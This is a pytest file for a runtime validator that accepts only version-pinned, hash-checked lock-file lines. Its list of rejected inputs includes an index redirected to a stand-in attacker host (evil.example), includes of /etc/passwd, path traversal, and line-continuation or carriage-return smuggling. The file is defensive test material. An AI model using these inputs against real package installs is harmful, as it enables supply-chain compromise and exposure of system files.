"""A lock that came with another user's job names packages by version and hash, and nothing else that is installed."""

import pytest
from robotrain_runtime.contract.added_packages import find_other_line

HASH = f"--hash=sha256:{'a' * 64}"
PLAIN = f"moves==1.0 \\\n    {HASH} \\\n    {HASH}\n    # via train"
PLAIN_LOCKS = (
    f"# 1 package of uv.lock for Linux: 9 bytes\n{PLAIN}\n",
    f"# head\n--only-binary :all:\n{PLAIN}\ntiny @ ${{FILES}}/tiny-1.0-py3-none-any.whl \\\n    {HASH}\n",
)
OTHER_LINES = (
    "--index-url https://evil.example",
    "-r /etc/passwd",
    "-e /home/me/code",
    f"moves @ https://evil.example/moves-1.0.whl {HASH}",
    f"moves @ file:///etc/passwd {HASH}",
    f"moves @ ${{FILES}}/../../x {HASH}",
    "moves==1.0",
    f"moves>=1 {HASH}",
    f"moves==1.0 {HASH} --index-url=https://evil.example",
    "# comment \\\n--index-url https://evil.example",
    f"moves==1.0 \\\\\n-r /etc/passwd {HASH}",
    f"moves==1.0 {HASH}\r-r /etc/passwd",
)


@pytest.mark.parametrize("lock", PLAIN_LOCKS)
def test_a_lock_that_robotrain_writes_is_used(lock):
    assert find_other_line(lock) == ""


@pytest.mark.parametrize("line", OTHER_LINES)
def test_a_lock_with_anything_else_is_not(line):
    assert find_other_line(f"{PLAIN_LOCKS[0]}{line}\n")
